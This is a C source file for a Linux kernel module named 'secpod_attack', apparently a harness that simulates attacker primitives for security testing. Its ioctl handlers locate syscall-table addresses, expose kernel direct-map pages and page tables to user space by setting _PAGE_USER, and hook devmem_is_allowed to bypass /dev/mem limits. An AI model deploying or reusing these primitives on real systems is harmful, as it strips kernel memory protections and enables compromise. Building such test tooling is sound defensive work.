/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/* Part of secpod_attack.ko; see attack_program.h. */
#include "attack_program.h"

#include <linux/io.h>
#include <linux/kprobes.h>
#include <linux/uaccess.h>
#include <asm/unistd.h>

#include "attack.h"
#include "attack_tables.h"

static int target(struct attack_request *request)
{
	const unsigned long *calls = (unsigned long *)attack_symbol("sys_call_table");

	if (!calls)
		return -ENOENT;
	/* Never implemented, so that nobody misses it meanwhile. */
	request->address = attack_physical(&calls[__NR_tuxcall]);
	request->value = READ_ONCE(calls[__NR_tuxcall]);
	return 0;
}

static int map_table(struct attack_request *request)
{
	const unsigned long seen = ATTACK_USER_AREA + PAGE_SIZE;
	u64 *table = request->address ? phys_to_virt(attack_physical((void *)request->address))
				      : attack_page(0);

	if (!table)
		return -ENOMEM;
	if (!attack_link_user(table))
		return -EPERM;
	if (!request->address) {
		request->address = seen;
		(void)attack_store(&table[attack_index(seen, 1)],
				   virt_to_phys(table) | ATTACK_USER);
	}
	request->value = ATTACK_USER_AREA;
	return 0;
}

static int unmap_table(struct attack_request *request)
{
	(void)request;
	return attack_link_user(NULL) ? 0 : -EPERM;
}

/* A page of the direct map, and what its entries are to be again, by level. */
static unsigned long *opened;
static u64 closed[ATTACK_LEVELS + 1];

static void set_entries(bool open)
{
	for (unsigned int level = ATTACK_LEVELS; level > 0; level--) {
		u64 *slot = attack_slot((unsigned long)opened, level, NULL);

		if (!slot)
			break;
		if (open)
			closed[level] = *slot;
		(void)attack_store(slot, open ? closed[level] | _PAGE_USER : closed[level]);
	}
	attack_flush();
}

static int open_kernel(struct attack_request *request)
{
	opened = attack_page(0);
	if (!opened)
		return -ENOMEM;
	set_entries(true);
	request->address = (unsigned long)opened;
	return 0;
}

static int close_kernel(struct attack_request *request)
{
	if (!opened)
		return -ENOENT;
	set_entries(false);
	request->value = *opened;
	return 0;
}

static int allow(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	(void)instance;
	regs_set_return_value(regs, 1);
	return 0;
}

static struct kretprobe allowing;

static int lift(struct attack_request *request)
{
	(void)request;
	allowing = (struct kretprobe){
		.kp = {.symbol_name = "devmem_is_allowed"},
		.handler = allow,
	};
	return register_kretprobe(&allowing);
}

static int drop(struct attack_request *request)
{
	(void)request;
	unregister_kretprobe(&allowing);
	return 0;
}

static const struct {
	unsigned int command;
	int (*carry_out)(struct attack_request *request);
} commands[] = {
	{ATTACK_TARGET, target},
	{ATTACK_TABLE_MAP, map_table},
	{ATTACK_TABLE_UNMAP, unmap_table},
	{ATTACK_OPEN, open_kernel},
	{ATTACK_CLOSE, close_kernel},
	{ATTACK_LIFT, lift},
	{ATTACK_DROP, drop},
	{ATTACK_PAIR, attack_pair},
	{ATTACK_PAIR_END, attack_pair_end},
};

long attack_for_program(unsigned int command, struct attack_request __user *argument)
{
	struct attack_request request = {0, 0};
	long result = -ENOTTY;

	if ((_IOC_DIR(command) & _IOC_WRITE) && copy_from_user(&request, argument, sizeof(request)))
		return -EFAULT;
	for (unsigned int i = 0; i < ARRAY_SIZE(commands); i++)
		if (command == commands[i].command)
			result = commands[i].carry_out(&request);
	if (!result && (_IOC_DIR(command) & _IOC_READ) &&
	    copy_to_user(argument, &request, sizeof(request)))
		return -EFAULT;
	return result;
}
